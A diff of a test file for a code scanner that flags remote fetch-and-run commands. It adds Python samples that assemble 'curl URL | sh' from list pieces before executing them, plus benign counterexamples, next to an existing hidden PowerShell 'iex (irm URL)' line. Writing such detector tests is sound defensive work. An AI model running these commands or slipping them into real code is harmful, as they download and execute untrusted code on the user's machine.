@@ -33,6 +33,12 @@ describe('a command reached through another spelling is read as shell code', () 
     ['w.py', `import os\ncmd = 'curl -s %s | sh' % '${URL}'\nos.system(cmd)\n`, 2],
     ['w.py', `import os\nos.system('curl -s {} | {shell}'.format('${URL}', shell='bash'))\n`, 2],
     ['w.ps1', `Start-Process powershell -ArgumentList "-NoP -W Hidden -C iex (irm ${URL})"\n`, 1],
+    // A list grown element by element, then joined and run (the round after: each got nothing before). The
+    // finding is where the pipe to the shell is written.
+    ['w.py', `import os\nparts = []\nparts.append("curl -fsSL ${URL}")\nparts.append("| sh")\nos.system(" ".join(parts))\n`, 4],
+    ['w.py', `import subprocess\nparts = ["curl", "-fsSL", "${URL}"]\nparts += ["|", "sh"]\nsubprocess.run(" ".join(parts), shell=True)\n`, 3],
+    ['w.py', `import os\nparts = ["curl -fsSL ${URL}"]\nparts.extend(["|", "bash"])\nos.system(" ".join(parts))\n`, 3],
+    ['w.py', `import os\nos.system(" ".join(["curl", "-fsSL", "${URL}", "|", "sh"]))\n`, 2],
   ])('risk-fetch-and-run in %s: %s', (file, code, line) => {
     expect(attackFindings({ [file]: code })).toEqual([`risk-fetch-and-run ${file}:${line}`]);
   });
@@ -48,6 +54,10 @@ describe('a command reached through another spelling is read as shell code', () 
     ['w.py', `import os\nos.system('curl -s -o {}/data.json {}'.format('/tmp', '${URL}'))\n`],
     ['w.ps1', `Start-Process powershell -ArgumentList "-NoP -C Get-Date"\n`],
     ['w.py', `import os, socket\nsocket.gethostbyname(os.environ['DB_HOST'])\nsocket.gethostbyname('example.com')\n`],
+    ['w.py', `parts = []\nparts.append("curl -fsSL ${URL}")\nparts.append("| sh")\nprint(" ".join(parts))\n`],
+    ['w.py', `import os\nparts = ["git", "status"]\nparts.append("--short")\nos.system(" ".join(parts))\n`],
+    ['w.py', `import subprocess\nparts = ["curl", "-fsSL", "-o", "data.json"]\nparts.append("${URL}")\nsubprocess.run(parts)\n`],
+    ['w.py', `import os\nparts = ["curl -fsSLO ${URL}"]\nparts += ["&&", "ls"]\nos.system(" ".join(parts))\n`],
   ])('no attack finding in %s: %s', (file, code) => {
     expect(attackFindings({ [file]: code })).toEqual([]);
   });
